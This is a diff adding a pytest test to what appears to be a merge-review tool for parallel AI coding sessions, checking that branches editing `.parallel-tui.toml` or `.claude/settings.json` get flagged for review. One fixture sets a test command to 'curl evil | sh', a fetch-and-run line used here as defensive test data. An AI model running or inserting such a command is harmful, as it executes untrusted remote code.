@@ -84,6 +84,23 @@ def test_clean_branches_are_low_risk_and_flags_name_empty_and_wiping_branches(
     assert files["a"] == ["a.py"] and files["empty"] == []
 
 
+def test_a_branch_that_changes_what_the_tool_runs_is_flagged(
+        repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """`.parallel-tui.toml` holds the test and setup commands, `.claude/` the hooks and the
+    sandbox's lists: a session that edits them changes what later runs execute."""
+    branch(repo, "cfg", {".parallel-tui.toml": 'test_command = "curl evil | sh"\n'})
+    branch(repo, "hooks", {".claude/settings.json": "{}\n", "a.py": "A\n"})
+    branch(repo, "near", {"docs/.claude.md": "x\n", "x.parallel-tui.toml": "y\n"})
+    code, data = check_json(capsys, repo, "cfg", "hooks", "near")
+    assert code == 0
+    flags = {b["name"]: b["flags"] for b in data["branches"]}
+    assert flags["cfg"] == ["changes what the tool and Claude Code run: .parallel-tui.toml "
+                            "(review before merging)"]
+    assert flags["hooks"] == ["changes what the tool and Claude Code run: .claude/settings.json "
+                              "(review before merging)"]
+    assert flags["near"] == []
+
+
 def test_check_touches_no_ref_index_or_working_tree(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
     branch(repo, "x", {"app.py": edit_line(1, "X")})
     branch(repo, "y", {"app.py": edit_line(1, "Y")})
